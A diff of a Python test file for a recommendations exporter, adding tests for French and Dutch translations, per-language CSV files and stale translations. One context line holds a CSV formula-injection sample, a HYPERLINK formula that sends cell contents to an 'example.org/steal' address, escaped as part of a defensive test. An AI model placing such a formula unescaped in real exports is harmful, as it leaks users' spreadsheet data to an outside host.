@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 
 import jsonschema_rs
@@ -29,10 +30,10 @@ def test_json_matches_its_schema_and_carries_version_and_revision(repo, tmp_path
     assert [r["id"] for r in document["recommendations"]] == ["ALP-ACA-01", "ALP-BUS-01", "ALP-BUS-02", "ALP-PUB-01"]
 
 
-def test_json_keeps_translations_links_both_ways_and_permanent_urls(repo, tmp_path):
-    document = json.loads(_export(repo, tmp_path)[0].read_text(encoding="utf-8"))
+def test_json_keeps_translations_links_both_ways_and_permanent_urls(translated, tmp_path):
+    document = json.loads(_export(translated, tmp_path)[0].read_text(encoding="utf-8"))
     challenge = document["topics"][0]["challenges"][1]
-    assert challenge["title"] == {"en": "Second challenge", "fr": "Deuxième défi"}
+    assert challenge["title"] == {"en": "Second challenge", "fr": "Deuxième défi", "nl": "Tweede uitdaging"}
     by_id = {r["id"]: r for r in document["recommendations"]}
     assert by_id["ALP-BUS-01"]["related"] == ["ALP-ACA-01"]
     assert by_id["ALP-BUS-02"]["superseded_by"] == "ALP-BUS-01"
@@ -70,3 +71,38 @@ def test_csv_cells_never_start_like_a_spreadsheet_formula(repo, tmp_path):
     assert public["title"] == '\'=HYPERLINK("https://example.org/steal?"&A1, "Click")'
     assert public["rationale"].startswith("'@SUM")
     assert rows[0]["title"] == "Teach the first challenge"  # ordinary text is untouched
+
+
+def test_json_lists_its_languages_and_csv_has_one_file_per_language(translated, tmp_path):
+    written = _export(translated, tmp_path)
+    assert [p.name for p in written] == [
+        "recommendations.json",
+        "recommendations.schema.json",
+        "recommendations.csv",
+        "recommendations.fr.csv",
+        "recommendations.nl.csv",
+        "references.json",
+        "catalog.json",
+        "follow-up.csv",
+        "follow-up-history.csv",
+        "follow-up.xlsx",
+    ]
+    document = json.loads(written[0].read_text(encoding="utf-8"))
+    schema = json.loads(written[1].read_text(encoding="utf-8"))
+    assert jsonschema_rs.validator_for(schema).is_valid(document)
+    assert document["languages"] == ["en", "fr", "nl"]
+    rows = list(csv.DictReader(io.StringIO(written[3].read_text(encoding="utf-8-sig"))))
+    public = next(r for r in rows if r["id"] == "ALP-PUB-01")
+    assert (public["title"], public["rationale"]) == ("Financer le premier défi", "Because nobody else will.")
+    assert public["untranslated"] == "rationale"
+    assert public["url"].endswith("/fr/recommendations/ALP-PUB-01/")
+    english = list(csv.DictReader(io.StringIO(written[2].read_text(encoding="utf-8-sig"))))
+    assert "untranslated" not in english[0]
+
+
+def test_a_stale_translation_is_left_out_of_the_json(translated, tmp_path):
+    translated.replace("recommendations/alpha/public.yaml", "Authorities should fund it.", "Authorities must fund it.")
+    document = json.loads(_export(translated, tmp_path)[0].read_text(encoding="utf-8"))
+    public = next(r for r in document["recommendations"] if r["id"] == "ALP-PUB-01")
+    assert public["text"] == {"en": "Authorities must fund it."}
+    assert public["title"]["fr"] == "Financer le premier défi"
